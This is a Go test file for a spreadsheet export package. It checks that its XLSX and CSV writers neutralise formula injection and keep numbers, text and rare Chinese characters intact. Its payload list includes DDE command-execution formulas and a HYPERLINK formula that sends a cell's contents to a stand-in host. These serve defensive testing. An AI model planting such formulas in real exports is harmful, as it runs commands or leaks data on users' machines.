package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// payloads are formulas in the forms known from attacks and from the programs
// themselves.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
	"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"详情\")", "@IMPORTXML(1)", " =1+1", "\u3000=1+1", "\ufeff=1+1",
	"'=1+1", "=\"a\"\r\n=1", "-2+3+cmd|' /C calc'!A0", "=DDE(\"a\";\"b\";\"c\")", "+86-13800000000",
}

func TestNoPayloadIsAFormula(t *testing.T) {
	table := Table{Name: "表", Heads: slices.Clone(payloads), Rows: [][]string{payloads}, Numbers: []int{0, 1, 2}}
	var book bytes.Buffer
	if err := WriteXLSX(&book, []Table{table}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(book.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range payloads {
		cell := Address(1, i)
		formula, _ := f.GetCellFormula("表", cell)
		kind, _ := f.GetCellType("表", cell)
		got, _ := f.GetCellValue("表", cell)
		if formula != "" || kind != excelize.CellTypeInlineString || got != strings.NewReplacer("\x00", "\ufffd").Replace(want) {
			t.Errorf("%q: formula %q, type %d, value %q", want, formula, kind, got)
		}
	}
	if part := xmlOf(t, book.Bytes()); regexp.MustCompile(`<f[ />]`).MatchString(part) {
		t.Error("the sheet has a formula element")
	}
}

func xmlOf(t *testing.T, book []byte) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	r, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestNoPayloadIsAFormulaInCSV(t *testing.T) {
	var out bytes.Buffer
	if err := WriteCSV(&out, Table{Heads: payloads, Rows: [][]string{payloads}}); err != nil {
		t.Fatal(err)
	}
	text, bom := strings.CutPrefix(out.String(), "\ufeff")
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || !bom || len(rows) != 2 {
		t.Fatal(rows, bom, err)
	}
	for i, got := range rows[1] {
		if !strings.HasPrefix(got, "'") {
			t.Errorf("%q is written %q", payloads[i], got)
		}
	}
}

func TestGuardIsTakenAwayAgain(t *testing.T) {
	for _, s := range append([]string{"", "'", "''", "'a", "甲", "-", "0012", "' =1", "a=1", "-5"}, payloads...) {
		if got := Unguard(Guard(s)); got != s {
			t.Errorf("%q comes back as %q", s, got)
		}
	}
	for _, s := range []string{"", "'", "甲", "0012", "'a", "a=1", "5"} {
		if Guard(s) != s {
			t.Errorf("%q is guarded for nothing", s)
		}
	}
}

// FuzzGuard holds Guard to its promise for every text.
func FuzzGuard(f *testing.F) {
	for _, s := range payloads {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := Guard(s)
		if Unguard(g) != s || g != "" && strings.ContainsAny(g[:1], "=+-@\t\r\n\x00") {
			t.Fatalf("%q is guarded as %q", s, g)
		}
	})
}

func TestNumbersAreNumbersAndTextIsText(t *testing.T) {
	row := []string{"12", "0012", "-3.50", "1e5", "1,000", "123456789012345678", "12"}
	table := Table{Name: "一", Heads: row, Rows: [][]string{row}, Numbers: []int{0, 1, 2, 3, 4, 5}}
	var book, text bytes.Buffer
	if err := WriteXLSX(&book, []Table{table, {Name: "二", Heads: []string{"甲"}}}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	for i, number := range []bool{true, false, true, false, false, false, false} {
		if kind, _ := f.GetCellType("一", Address(1, i)); (kind != excelize.CellTypeInlineString) != number {
			t.Errorf("%s is of type %d", row[i], kind)
		}
	}
	if !slices.Equal(f.GetSheetList(), []string{"一", "二"}) {
		t.Error(f.GetSheetList())
	}
	column, _ := f.GetColStyle("一", "B")
	if style, err := f.GetStyle(column); err != nil || style.NumFmt != textFormat {
		t.Error("empty cells below are no text:", style, err)
	}
	if err := WriteCSV(&text, table); err != nil || !strings.HasSuffix(text.String(), "\r\n12,0012,-3.50,1e5,\"1,000\",123456789012345678,12\r\n") {
		t.Errorf("%q %v", text.String(), err)
	}
}

func TestWhatAWorkbookCannotHoldIsRefused(t *testing.T) {
	long := strings.Repeat("字", maxCell)
	for _, tables := range [][]Table{nil, {{Name: "a/b"}}, {{Name: "一", Heads: []string{"x"}, Rows: [][]string{{long + "字"}}}}} {
		if err := WriteXLSX(io.Discard, tables); err == nil {
			t.Errorf("%d tables are written", len(tables))
		}
	}
	if err := WriteXLSX(io.Discard, []Table{{Name: "一", Heads: []string{"x"}, Rows: [][]string{{long}}}}); err != nil {
		t.Error(err)
	}
}

func TestRareCharactersSurvive(t *testing.T) {
	names := []string{"𠮷", "㛃", "䶮", "𰻝"}
	table := Table{Name: "一", Heads: []string{"姓名"}, Rows: [][]string{names}}
	var book, text bytes.Buffer
	if err := WriteXLSX(&book, []Table{table}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := f.GetRows("一")
	if err := WriteCSV(&text, table); err != nil || !slices.Equal(rows[1], names) || !strings.Contains(text.String(), strings.Join(names, ",")) {
		t.Error(rows, text.String(), err)
	}
}
